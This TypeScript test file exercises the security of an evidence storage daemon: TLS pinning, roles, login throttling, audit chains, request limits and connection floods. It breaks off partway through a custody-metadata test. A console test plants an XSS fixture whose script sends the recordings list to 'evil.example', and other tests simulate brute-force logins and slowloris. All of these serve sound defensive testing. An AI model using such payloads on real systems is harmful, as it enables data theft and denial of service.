/**
 * Security, over the wire: HTTPS with the connection file's pinned
 * certificates (curl, Node's TLS through the BWS simulator, swift), roles,
 * user management while the daemon runs, failed-login throttling, the audit
 * trail, the connection file's one-way flags, and request limits.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { get as httpsGet } from 'node:https';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { generateKey } from '../src/auth/credentials.ts';
import { fallbackName, padding, tarEnd, tarHeader } from '../src/evidence/tar.ts';
import { runCli, SwiftSession, TEST_USERS, TestDaemon } from './helpers/daemon.ts';

const run = promisify(execFile);

/** Raw bytes to the daemon; resolves with what came back (or '' on a reset) once the socket closes or `waitMs` passes. */
function raw(port: number, bytes: string | Buffer, waitMs = 3000, localAddress = '127.0.0.1'): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress });
    let out = '';
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(out);
    };
    const timer = setTimeout(done, waitMs);
    socket.on('data', (d) => (out += d.toString('latin1')));
    socket.on('close', done);
    socket.on('error', done);
    socket.write(bytes);
  });
}

describe('HTTPS with the certificates the connection file pins', () => {
  let daemon: TestDaemon;
  let work: string;
  let cacert: string;
  let file: { AuthenticationTokenURI: string[]; HTTPSCertificate?: string[]; BlobAPIUserName: string; BlobAPIKey: string };

  before(async () => {
    daemon = await TestDaemon.start({ https: true });
    work = await mkdtemp(join(tmpdir(), 'edgecd-https-'));
    file = await daemon.connectionFile();
    cacert = join(work, 'pinned.pem');
    await writeFile(cacert, Buffer.from(file.HTTPSCertificate![0]!, 'base64'));
  });
  after(async () => {
    await daemon.cleanup();
    await rm(work, { recursive: true, force: true });
  });

  test('the connection file lists https URIs with one certificate each, and passes every rule', async () => {
    assert.equal(file.AuthenticationTokenURI[0], `https://127.0.0.1:${daemon.port}/auth/v1.0`);
    assert.equal(file.HTTPSCertificate!.length, file.AuthenticationTokenURI.length);
    const check = await runCli(['connection-file', '--check', join(daemon.dataDir, 'connection.json')]);
    assert.equal(check.code, 0, check.stdout);
  });

  test('behind the TLS front too, headers sent too slowly get 408', async () => {
    const slow = await TestDaemon.start({ https: true, config: { http: { headersTimeoutSeconds: 2 } } });
    try {
      assert.match(await raw(slow.port, 'GET /healthcheck HTTP/1.1\r\nHost: x\r\n', 6000), /^HTTP\/1\.1 408 /);
    } finally {
      await slow.cleanup();
    }
  });

  test('plain HTTP answers /healthcheck only', async () => {
    assert.equal((await daemon.request('GET', '/healthcheck')).status, 200);
    const auth = await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': file.BlobAPIUserName, 'X-Auth-Key': file.BlobAPIKey });
    assert.equal(auth.status, 403);
    assert.match(auth.text, /HTTPS only/);
  });

  test('curl trusting only the pinned certificate completes the BWS flow; without it, it fails', async () => {
    const base = `https://127.0.0.1:${daemon.port}`;
    const curl = (...args: string[]) => run('curl', ['-sS', '--fail', '--cacert', cacert, ...args]);
    const auth = await curl('-D', '-', '-o', '/dev/null', '-H', `X-Auth-User: ${file.BlobAPIUserName}`, '-H', `X-Auth-Key: ${file.BlobAPIKey}`, `${base}/auth/v1.0`);
    const token = /x-auth-token: (\S+)/i.exec(auth.stdout)![1]!;
    const storage = /x-storage-url: (\S+)/i.exec(auth.stdout)![1]!;
    assert.ok(storage.startsWith(`${base}/v1/`), storage);
    const h = ['-H', `X-Auth-Token: ${token}`];
    const clip = join(work, 'clip.mkv');
    await writeFile(clip, Buffer.alloc(100_000, 1));
    await curl('-X', 'PUT', ...h, '-H', 'X-Container-Meta-Status: Transferring', `${storage}/curl-evidence`);
    await curl('-X', 'PUT', ...h, '-T', clip, `${storage}/curl-evidence/clip.mkv`);
    await curl('-X', 'POST', ...h, '-H', 'X-Container-Meta-Status: Complete', `${storage}/curl-evidence`);
    const head = await curl('-I', ...h, `${storage}/curl-evidence/clip.mkv`);
    assert.match(head.stdout, /content-length: 100000/i);
    const untrusted = await run('curl', ['-sS', `${base}/healthcheck`]).then(
      () => 0,
      (err: { code: number }) => err.code,
    );
    assert.equal(untrusted, 60, 'curl without the pinned certificate refuses the connection');
  });

  test('a Node TLS client trusting only HTTPSCertificate (the simulator) stores a day; one trusting nothing fails', async () => {
    const sim = await runCli([
      'simulate',
      '--connection',
      join(daemon.dataDir, 'connection.json'),
      '--users',
      '2',
      '--devices',
      '1',
      '--recordings',
      '2',
      '--clips',
      '2',
      '--clip-bytes',
      '50000',
      '--extras',
    ]);
    assert.equal(sim.code, 0, sim.stderr);
    assert.equal(JSON.parse(sim.stdout).recordings.length, 2);
    const refused = await new Promise<string>((resolve) => {
      httpsGet(`https://127.0.0.1:${daemon.port}/healthcheck`, (res) => resolve(String(res.statusCode))).on('error', (err: NodeJS.ErrnoException) => resolve(err.code ?? 'error'));
    });
    assert.match(refused, /SELF_SIGNED|UNABLE_TO_VERIFY/);
  });

  test('python-swiftclient works over HTTPS with the pinned certificate', async () => {
    const swift = (...args: string[]) => run('swift', ['--os-cacert', cacert, '-A', file.AuthenticationTokenURI[0]!, ...args], { cwd: work });
    await writeFile(join(work, 'note.txt'), 'over TLS\n');
    await swift('-U', file.BlobAPIUserName, '-K', file.BlobAPIKey, 'upload', 'swift-tls', 'note.txt');
    const out = await swift('-U', TEST_USERS.reader.user, '-K', TEST_USERS.reader.key, 'download', 'swift-tls', 'note.txt', '-o', '-');
    assert.equal(out.stdout, 'over TLS\n');
  });

  test('cert renew issues new certificates, serves them, and rewrites the connection file; status shows the days left', async () => {
    const before = (await daemon.connectionFile()).HTTPSCertificate![0];
    const res = await runCli(['cert', 'renew', '--data', daemon.dataDir]);
    assert.equal(res.code, 0, res.stderr);
    assert.match(res.stdout, /renewed: 127\.0\.0\.1/);
    const renewed = (await daemon.connectionFile()).HTTPSCertificate![0]!;
    assert.notEqual(renewed, before);
    const fresh = join(work, 'renewed.pem');
    await writeFile(fresh, Buffer.from(renewed, 'base64'));
    const served = await run('openssl', ['s_client', '-connect', `127.0.0.1:${daemon.port}`, '-CAfile', fresh, '-verify_return_error'], { input: '' } as never).catch(
      (err: { stdout: string }) => err,
    );
    assert.match((served as { stdout: string }).stdout, /Verify return code: 0 \(ok\)/);
    const servedPem = /-----BEGIN CERTIFICATE-----[\s\S]+?-----END CERTIFICATE-----/.exec((served as { stdout: string }).stdout)![0];
    assert.equal(servedPem.replace(/\s/g, ''), Buffer.from(renewed, 'base64').toString().replace(/\s/g, ''), 'the renewed certificate is the one served');
    const admin = await run('curl', [
      '-sS',
      '--cacert',
      fresh,
      '-H',
      `X-Auth-User: ${TEST_USERS.admin.user}`,
      '-H',
      `X-Auth-Key: ${TEST_USERS.admin.key}`,
      '-D',
      '-',
      '-o',
      '/dev/null',
      `https://127.0.0.1:${daemon.port}/auth/v1.0`,
    ]);
    const token = /x-auth-token: (\S+)/i.exec(admin.stdout)![1]!;
    const status = JSON.parse((await run('curl', ['-sS', '--cacert', fresh, '-H', `X-Auth-Token: ${token}`, `https://127.0.0.1:${daemon.port}/status`])).stdout);
    assert.ok(status.tls.daysUntilExpiry >= 5 * 365 - 2, `days left: ${status.tls.daysUntilExpiry}`);
  });
});

describe('roles', () => {
  let daemon: TestDaemon;
  let s: SwiftSession;
  const as = async (role: 'uploader' | 'reader' | 'admin' | 'replicator') => {
    if (role === 'replicator') {
      const res = await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': TEST_USERS.replicator.user, 'X-Auth-Key': TEST_USERS.replicator.key });
      return res.headers['x-auth-token'] as string;
    }
    return (await daemon.auth(role)).token;
  };

  before(async () => {
    daemon = await TestDaemon.start();
    s = await SwiftSession.open(daemon);
    await s.req('PUT', '/evidence');
    await s.req('PUT', '/evidence/clip.mkv', {}, 'bytes');
  });
  after(() => daemon.cleanup());

  test('each role may do exactly its part; every denial is 403 and audited', async () => {
    const expect: [string, 'uploader' | 'reader' | 'admin' | 'replicator', string, string, number][] = [
      ['uploader reads no evidence', 'uploader', 'GET', '/evidence/clip.mkv', 403],
      ['uploader lists nothing', 'uploader', 'GET', '/evidence', 403],
      ['uploader checks what it stored', 'uploader', 'HEAD', '/evidence/clip.mkv', 200],
      ['uploader reads the published capabilities', 'uploader', 'GET', '/System/Capabilities.json', 200],
      ['reader reads', 'reader', 'GET', '/evidence/clip.mkv', 200],
      ['reader lists', 'reader', 'GET', '/evidence', 200],
      ['reader writes nothing', 'reader', 'PUT', '/evidence/new.mkv', 403],
      ['reader changes no metadata', 'reader', 'POST', '/evidence', 403],
      ['replicator writes', 'replicator', 'PUT', '/evidence/replicated.mkv', 201],
      ['replicator confirms with HEAD', 'replicator', 'HEAD', '/evidence/replicated.mkv', 200],
      ['replicator reads no evidence', 'replicator', 'GET', '/evidence/replicated.mkv', 403],
      ['admin reads no evidence', 'admin', 'GET', '/evidence/clip.mkv', 403],
      ['admin writes nothing', 'admin', 'PUT', '/evidence/x', 403],
    ];
    for (const [what, role, method, rel, status] of expect) {
      const res = await s.req(method, rel, { 'X-Auth-Token': await as(role) }, method === 'PUT' ? 'data' : undefined);
      assert.equal(res.status, status, what);
    }
    const audit = (await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { actor: string; action: string; result: string; target?: string });
    const denials = audit.filter((l) => l.result === '403');
    assert.ok(denials.some((l) => l.actor === TEST_USERS.reader.user && l.action === 'denied PUT object'));
    assert.ok(denials.some((l) => l.actor === 'bws' && l.action === 'denied GET object' && l.target?.endsWith('/evidence/clip.mkv')));
    assert.equal(denials.length, expect.filter((e) => e[4] === 403).length);
  });

  test('users are managed while the daemon runs: add, log in, disable (tokens die), passwd of the BWS user rewrites connection.json', async () => {
    const added = await runCli(['user', 'add', 'clerk1', '--role', 'reader', '--data', daemon.dataDir]);
    assert.equal(added.code, 0, added.stderr);
    const key = /key \(shown once, store it now\): (\S+)/.exec(added.stdout)![1]!;
    const login = await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'clerk1', 'X-Auth-Key': key });
    assert.equal(login.status, 200);
    const token = login.headers['x-auth-token'] as string;
    assert.equal((await s.req('GET', '/evidence/clip.mkv', { 'X-Auth-Token': token })).status, 200);
    assert.equal((await runCli(['user', 'disable', 'clerk1', '--data', daemon.dataDir])).code, 0);
    await new Promise((r) => setTimeout(r, 1100)); // the daemon re-reads credentials at most once a second
    assert.equal((await s.req('GET', '/evidence/clip.mkv', { 'X-Auth-Token': token })).status, 401, "a disabled user's token stops working");
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'clerk1', 'X-Auth-Key': key })).status, 401);
    const list = await runCli(['user', 'list', '--data', daemon.dataDir]);
    assert.match(list.stdout, /^clerk1\s+reader\s+account bws\s+\(disabled\)$/m);
    assert.match((await runCli(['user', 'add', 'x', '--role', 'superuser', '--data', daemon.dataDir])).stderr, /--role: one of uploader, reader, replicator, admin/);

    const oldKey = (await daemon.connectionFile()).BlobAPIKey;
    const oldToken = (await daemon.auth()).token;
    const passwd = await runCli(['user', 'passwd', 'bws', '--data', daemon.dataDir]);
    assert.equal(passwd.code, 0, passwd.stderr);
    const newKey = (await daemon.connectionFile()).BlobAPIKey;
    assert.notEqual(newKey, oldKey);
    await new Promise((r) => setTimeout(r, 1100));
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'bws', 'X-Auth-Key': newKey })).status, 200);
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'bws', 'X-Auth-Key': oldKey })).status, 401);
    assert.equal((await s.req('HEAD', '/evidence', { 'X-Auth-Token': oldToken })).status, 401, 'a new key voids the tokens the old one got');
    const audit = await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8');
    for (const action of ['user.add', 'user.disable', 'user.passwd']) assert.match(audit, new RegExp(`"action":"${action.replace('.', '\\.')}"`));
  });
});

describe('failed logins', () => {
  test('slow down per address and user with a growing delay (429 + Retry-After); the lockout is logged', async () => {
    const daemon = await TestDaemon.start();
    try {
      const file = await daemon.connectionFile();
      const login = (key: string, from: string) =>
        raw(daemon.port, `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: ${file.BlobAPIUserName}\r\nX-Auth-Key: ${key}\r\nConnection: close\r\n\r\n`, 3000, from);
      const status = async (key: string, from = '127.0.0.1') => Number(/^HTTP\/1\.1 (\d+)/.exec(await login(key, from))?.[1]);
      // The BWS's docking station has logged in from 127.0.0.2 before.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200);
      for (let i = 0; i < 6; i++) assert.equal(await status('wrong-key-0000'), 401);
      const locked = await login(file.BlobAPIKey, '127.0.0.1');
      assert.match(locked, /^HTTP\/1\.1 429 /, 'even the right key waits while locked');
      const retryAfter = Number(/Retry-After: (\d+)/i.exec(locked)?.[1]);
      assert.ok(retryAfter >= 1);
      assert.ok(daemon.logLines.some((l) => l.includes('failed logins: locked out')));
      // The user name is locked too, from any address: a guesser gains nothing by changing it.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.4'), 429);
      // But not for the addresses the BWS logs in from: its dock still gets in.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200);
      await new Promise((r) => setTimeout(r, retryAfter * 1000 + 100));
      assert.equal(await status(file.BlobAPIKey), 200);
      // A correct key clears its address: the next mistake is free again.
      assert.equal(await status('wrong-key-0000'), 401);
      assert.equal(await status(file.BlobAPIKey), 200);
      // Swift's account:user form names the same user; anything longer is refused, not a fresh name to guess with.
      const forged = await raw(
        daemon.port,
        `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: bws:${file.BlobAPIUserName}:x\r\nX-Auth-Key: ${file.BlobAPIKey}\r\nConnection: close\r\n\r\n`,
        3000,
        '127.0.0.3',
      );
      assert.match(forged, /^HTTP\/1\.1 401 /);
    } finally {
      await daemon.cleanup();
    }
  });

  test("nobody keeps the BWS out with its name: others' failures never lock the addresses it logs in from", async () => {
    const daemon = await TestDaemon.start();
    try {
      const file = await daemon.connectionFile();
      const status = async (key: string, from: string) =>
        Number(
          /^HTTP\/1\.1 (\d+)/.exec(
            await raw(daemon.port, `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: ${file.BlobAPIUserName}\r\nX-Auth-Key: ${key}\r\nConnection: close\r\n\r\n`, 3000, from),
          )?.[1],
        );
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'the dock, once');
      // The finding: an address that failed once, then fourteen failures as the BWS from other addresses.
      assert.equal(await status('wrong', '127.0.0.2'), 401, "the dock's own slip makes it a suspect address");
      for (let i = 0; i < 14; i++) assert.ok([401, 429].includes(await status('wrong', `127.0.1.${i + 1}`)));
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'the BWS with its key gets in');
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'and again');
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('audit trail', () => {
  test('records custody, verifies its chain, names the first broken line, and shows a recording', async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      await s.req('PUT', '/rec-1', { 'X-Container-Meta-Status': 'Transferring' });
      await s.req('PUT', '/rec-1/clip.mkv', {}, 'clip');
      await s.req('GET', '/rec-1/clip.mkv');
      const show = await runCli(['audit', 'show', '--recording', 'rec-1', '--data', daemon.dataDir]);
      const lines = show.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { actor: string; action: string; result: string; prev: string });
      assert.deepEqual(
        lines.map((l) => [l.actor, l.action, l.result]),
        [
          ['bws', 'container.put', '201'],
          ['bws', 'object.put', '201'],
          [TEST_USERS.reader.user, 'object.get', '200'],
        ],
      );
      assert.ok(lines.every((l) => /^[0-9a-f]{64}$/.test(l.prev)));
      assert.equal((await runCli(['audit', 'verify', '--data', daemon.dataDir])).code, 0);
      await daemon.stop();

      const path = join(daemon.dataDir, 'audit.jsonl');
      const text = await readFile(path, 'utf8');
      const all = text.split('\n');
      const victim = all.findIndex((l) => l.includes('"object.get"'));
      all[victim] = all[victim]!.replace('"object.get"', '"object.head"');
      await writeFile(path, all.join('\n'));
      const verify = await runCli(['audit', 'verify', '--data', daemon.dataDir]);
      assert.equal(verify.code, 1);
      assert.match(verify.stdout, new RegExp(`BROKEN at line ${victim + 1}`));
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('the connection file only ever turns WantEncryption and FullStoreAndReadSupport on', () => {
  test('true is issued with a valid RSA key; going back to false is refused with the reason', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-flags-'));
    try {
      const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      await writeFile(join(dir, 'key.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
      const config = (wantEncryption: boolean) =>
        writeFile(
          join(dir, 'edgecd.json'),
          JSON.stringify({ connection: { wantEncryption, publicKeyFile: join(dir, 'key.pem'), publicKeyId: 'evidence-2026', fullStoreAndReadSupport: wantEncryption } }),
        );
      await config(true);
      assert.equal((await runCli(['init', '--data', dir])).code, 0);
      const file = JSON.parse(await readFile(join(dir, 'connection.json'), 'utf8'));
      assert.equal(file.WantEncryption, true);
      assert.equal(file.PublicKeyId, 'evidence-2026');
      assert.match(Buffer.from(file.PublicKey, 'base64').toString(), /BEGIN PUBLIC KEY/);
      assert.equal((await runCli(['connection-file', '--check', join(dir, 'connection.json')])).code, 0);
      await config(false);
      const refused = await runCli(['init', '--data', dir, '--key', 'another-key-123']);
      assert.equal(refused.code, 1);
      assert.match(refused.stderr, /WantEncryption was issued as true on .*change only from false to true/);
      assert.equal(JSON.parse(await readFile(join(dir, 'connection.json'), 'utf8')).WantEncryption, true, 'the issued file is left as it was');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('request limits', () => {
  let daemon: TestDaemon;
  before(async () => {
    daemon = await TestDaemon.start({ config: { http: { headersTimeoutSeconds: 2, bodyTimeoutSeconds: 2, maxHeaders: 50, maxUrlBytes: 2048, maxRequestsPerSocket: 3 } } });
  });
  after(() => daemon.cleanup());

  test('an overlong URL is 414, too many header fields 431, an oversized header block 431', async () => {
    assert.match(await raw(daemon.port, `GET /v1/${'a'.repeat(3000)} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 414 /);
    const many = Array.from({ length: 60 }, (_, i) => `X-H${i}: v\r\n`).join('');
    assert.match(await raw(daemon.port, `GET /healthcheck HTTP/1.1\r\nHost: x\r\n${many}\r\n`), /^HTTP\/1\.1 431 /);
    assert.match(await raw(daemon.port, `GET /healthcheck HTTP/1.1\r\nHost: x\r\nX-Big: ${'b'.repeat(20_000)}\r\n\r\n`), /^HTTP\/1\.1 431 /);
  });

  test('headers sent too slowly (slowloris) get 408; a body that stalls gets 408 and stores nothing', async () => {
    const slow = await raw(daemon.port, 'GET /healthcheck HTTP/1.1\r\nHost: x\r\n', 5000);
    assert.match(slow, /^HTTP\/1\.1 408 /);
    const s = await SwiftSession.open(daemon);
    await s.req('PUT', '/limits');
    const stalled = await raw(daemon.port, `PUT ${s.account}/limits/half HTTP/1.1\r\nHost: x\r\nX-Auth-Token: ${s.token}\r\nContent-Length: 1000\r\n\r\n${'x'.repeat(10)}`, 6000);
    assert.match(stalled, /^HTTP\/1\.1 408 /);
    assert.equal((await s.req('HEAD', '/limits/half')).status, 404);
  });

  test('a keep-alive connection serves a bounded number of requests', async () => {
    const three = Array.from({ length: 4 }, () => 'GET /healthcheck HTTP/1.1\r\nHost: x\r\n\r\n').join('');
    const answers = await raw(daemon.port, three);
    assert.equal((answers.match(/HTTP\/1\.1 200 /g) ?? []).length, 3);
    assert.match(answers, /Connection: close/i);
  });
});

describe('connections', () => {
  /** Opens a connection from `localAddress` that sends nothing; resolves once connected, with a promise of its close. */
  function silent(port: number, localAddress: string): Promise<{ socket: Socket; closed: Promise<string> }> {
    return new Promise((resolve, reject) => {
      const socket = connect({ port, host: '127.0.0.1', localAddress });
      let got = '';
      socket.on('data', (d) => (got += d.toString('latin1')));
      const closed = new Promise<string>((done) => socket.once('close', () => done(got)));
      socket.once('error', () => undefined);
      socket.once('connect', () => resolve({ socket, closed }));
      socket.once('error', reject);
    });
  }
  type Connections = { open: number; silent: number; refused: { 'per-address': number; full: number }; evicted: number };

  test('silent connections are capped per address and overall, closed after the first-byte timeout, and never crowd out the BWS', async () => {
    const daemon = await TestDaemon.start({ config: { http: { maxConnections: 40, maxConnectionsPerAddress: 10, headersTimeoutSeconds: 3 } } });
    const sockets: Socket[] = [];
    try {
      const s = await SwiftSession.open(daemon); // the BWS logs in from 127.0.0.1: a trusted address from now on
      const admin = await daemon.auth('admin');
      const connections = async () => (JSON.parse((await daemon.request('GET', '/status', { 'X-Auth-Token': admin.token })).text) as { connections: Connections }).connections;

      // Plain HTTP too: a connection that never sends a byte is closed, with nothing said.
      const quiet = await silent(daemon.port, '127.0.0.2');
      assert.equal(await quiet.closed, '', 'closed after the first-byte timeout');

      // One address gets ten; the rest are refused at once (closed before a byte).
      const flood = await Promise.all(Array.from({ length: 25 }, () => silent(daemon.port, '127.0.0.3')));
      sockets.push(...flood.map((f) => f.socket));
      // The daemon accepts a moment after the kernel does: ask until it has seen all 25.
      while ((await connections()).refused['per-address'] < 15) await new Promise((r) => setImmediate(r));
      assert.equal((await connections()).refused['per-address'], 15);

      // Many addresses fill the station: new connections push out the oldest silent ones.
      for (let i = 10; i < 20; i++) sockets.push(...(await Promise.all(Array.from({ length: 8 }, () => silent(daemon.port, `127.0.0.${i}`)))).map((f) => f.socket));
      // Again, ask until the daemon has accepted (or refused) all 80.
      const seen = (c: Connections) => c.open + c.evicted + c.refused.full + c.refused['per-address'];
      while (seen(await connections()) < 10 + 15 + 80) await new Promise((r) => setImmediate(r));
      const full = await connections();
      assert.ok(full.open <= 40, `${full.open} open, at most 40`);
      assert.ok(full.evicted > 0, 'silent connections made room');

      // The BWS still logs in, uploads and reads back; a monitor from a new address still gets /healthcheck.
      const again = await daemon.auth();
      assert.equal((await daemon.request('PUT', `${again.account}/crowded`, { 'X-Auth-Token': again.token })).status, 201);
      assert.equal((await daemon.request('PUT', `${again.account}/crowded/clip.mkv`, { 'X-Auth-Token': again.token }, 'bytes')).status, 201);
      assert.equal((await s.req('GET', '/crowded/clip.mkv')).text, 'bytes');
      assert.match(await raw(daemon.port, 'GET /healthcheck HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', 5000, '127.0.0.99'), /^HTTP\/1\.1 200 /);
    } finally {
      for (const socket of sockets) socket.destroy();
      await daemon.cleanup();
    }
  });
});

describe('generated keys', () => {
  test('never start with "-" or "_" (a command line would read them as options), and carry 256 bits', () => {
    // About 3 % of raw base64url keys start with one of them: 2000 draws would meet ~60.
    for (let i = 0; i < 2000; i++) {
      const key = generateKey();
      assert.match(key, /^[A-Za-z0-9][A-Za-z0-9_-]{42}$/);
    }
  });
});

describe('tokens and key changes', () => {
  test('a login that raced a key change gets a token the new key voids all the same', async () => {
    const { Hono } = await import('hono');
    const { Credentials, LiveCredentials, hashKey } = await import('../src/auth/credentials.ts');
    const { TokenRegistry } = await import('../src/auth/tokens.ts');
    const { changeUser } = await import('../src/auth/users.ts');
    const { requireToken } = await import('../src/http/middleware/auth.ts');
    const { statusOf } = await import('../src/lib/errors.ts');
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-tokens-'));
    try {
      const file = join(dir, 'credentials.json');
      await new Credentials([{ user: 'bws', account: 'bws', role: 'uploader', key: await hashKey('old-key-0000') }]).save(file);
      const credentials = await LiveCredentials.open(file);
      const tokens = new TokenRegistry(3600);
      const app = new Hono();
      app.onError((err, c) => c.text(err.message, statusOf(err) as never));
      app.get('/v1/x', requireToken({ tokens, credentials }) as never, (c) => c.text('ok'));
      // The login is checked against the credentials as they were...
      const proved = await (await credentials.current()).verify('bws', 'old-key-0000');
      assert.ok(proved);
      // ...the key changes meanwhile...
      await changeUser(file, { op: 'passwd', user: 'bws', key: 'new-key-1111' });
      await new Promise((r) => setTimeout(r, 5));
      // ...and the token is issued after the change, as a slow scrypt would have it.
      const { token } = tokens.issue(proved);
      credentials.invalidate();
      assert.equal((await app.request('/v1/x', { headers: { 'X-Auth-Token': token } })).status, 401);
      const fresh = tokens.issue((await (await credentials.current()).verify('bws', 'new-key-1111'))!);
      assert.equal((await app.request('/v1/x', { headers: { 'X-Auth-Token': fresh.token } })).status, 200);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('evidence bytes in the console', () => {
  test('are never served as a page: a stored text/html or text/javascript object downloads, in a sandbox; a clip plays as video, by its name', async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      assert.equal((await s.req('PUT', '/case')).status, 201);
      const planted: Record<string, [string, string]> = {
        'evil.html': ['text/html', '<script src="/console/recordings/case/object?name=evil.js"></script>'],
        'evil.js': ['text/javascript', 'fetch("/console/recordings").then((r) => r.text()).then((t) => location = "https://evil.example/?" + encodeURIComponent(t))'],
        '20240101T000000Z_1.mkv': ['text/html', '<script>alert(1)</script>'],
      };
      for (const [name, [type, body]] of Object.entries(planted)) assert.equal((await s.req('PUT', `/case/${name}`, { 'Content-Type': type }, body)).status, 201);
      const login = await fetch(`${daemon.base}/console/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: { Origin: daemon.base, 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ user: TEST_USERS.reader.user, key: TEST_USERS.reader.key }),
      });
      const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
      const get = (name: string) => fetch(`${daemon.base}/console/recordings/case/object?name=${encodeURIComponent(name)}`, { headers: { Cookie: cookie } });
      for (const name of ['evil.html', 'evil.js']) {
        const res = await get(name);
        assert.equal(res.status, 200);
        assert.equal(res.headers.get('content-type'), 'application/octet-stream', `${name}: never its stored type`);
        assert.match(res.headers.get('content-disposition')!, /^attachment;/);
        assert.match(res.headers.get('content-security-policy')!, /^sandbox;/);
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      }
      const clip = await get('20240101T000000Z_1.mkv');
      assert.equal(clip.headers.get('content-type'), 'video/x-matroska');
      assert.match(clip.headers.get('content-disposition')!, /^inline;/);
      assert.match(clip.headers.get('content-security-policy')!, /^sandbox;/);
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('console sessions', () => {
  test("a user's logins end only that user's oldest sessions, never another's; searches are audited", async () => {
    const daemon = await TestDaemon.start();
    try {
      const login = async (who: 'reader' | 'admin') => {
        const res = await fetch(`${daemon.base}/console/login`, {
          method: 'POST',
          redirect: 'manual',
          headers: { Origin: daemon.base, 'Content-Type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ user: TEST_USERS[who].user, key: TEST_USERS[who].key }),
        });
        assert.equal(res.status, 303);
        return res.headers.get('set-cookie')!.split(';')[0]!;
      };
      const live = async (cookie: string, path: string) => (await fetch(`${daemon.base}${path}`, { redirect: 'manual', headers: { Cookie: cookie } })).status === 200;
      const admin = await login('admin');
      const readers: string[] = [];
      for (let i = 0; i < 25; i++) readers.push(await login('reader'));
      assert.ok(await live(admin, '/console/station'), "the admin's session outlives the reader's logins");
      assert.ok(!(await live(readers[0]!, '/console/recordings')), "the reader's oldest sessions ended");
      assert.ok(await live(readers[24]!, '/console/recordings'));
      assert.equal((await Promise.all(readers.map((r) => live(r, '/console/recordings')))).filter(Boolean).length, 20);

      await fetch(`${daemon.base}/console/recordings?user=badge-4711&from=2026-01-01`, { headers: { Cookie: readers[24]! } });
      const lines = (await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8'))
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { actor: string; action: string; details?: Record<string, unknown> });
      const search = lines.filter((l) => l.action === 'console.recording.search' && l.details?.user === 'badge-4711');
      assert.equal(search.length, 1);
      assert.equal(search[0]!.actor, TEST_USERS.reader.user);
      assert.equal(search[0]!.details!.from, '2026-01-01');
      assert.equal(search[0]!.details!.shown, 0);
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('custody metadata', () => {
  test("only a replicating station may set it: an uploader's edgecd-* keys are kept apart, never taken for custody", async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      assert.equal((await s.req('PUT', '/case')).status, 201);
      const forged = {
        'X-Object-Meta-Edgecd-Station': 'HQ%20evidence%20room',
        'X-Object-Meta-Edgecd-Received': '2020-01-01T00:00:00.000Z',
        'X-Object-Meta-Edgecd-Sha256': '0'.repeat(64),
      };
      assert.equal((await s.req('PUT', '/case/clip.mkv', forged, 'bytes')).status, 201, 'stored: the claim is not checked, only kept apart');
      const head = await s.req('HEAD', '/case/clip.mkv');
      assert.equal(head.headers['x-object-meta-edgecd-station'], undefined);
      assert.equal(head.headers['x-object-meta-claimed-edgecd-station'], 'HQ%20evidence%20room');
      assert.equal((await s.req('POST', '/case/clip.mkv', { 'X-Object-Meta-Edgecd-Received': '2020-01-01T00:00:00.000Z' })).status, 202);
      assert.equal((await s.req('HEAD', '/case/clip.mkv')).headers['x-object-meta-edgecd-received'], undefined);
      // A replicator's custody keys are custody, and their SHA-256 is checked against the bytes.
      const replicator = await daemon.auth('replicator');
      const put = (sha: string) =>
        daemon.request(
          'PUT',
          `${replicator.account}/case/replicated.mkv`,
          { 'X-Auth-Token': replicator.token, 'X-Object-Meta-Edgecd-Sha256': sha, 'X-Object-Meta-Edgecd-Station': 'Station%207' },
          'bytes',
        );
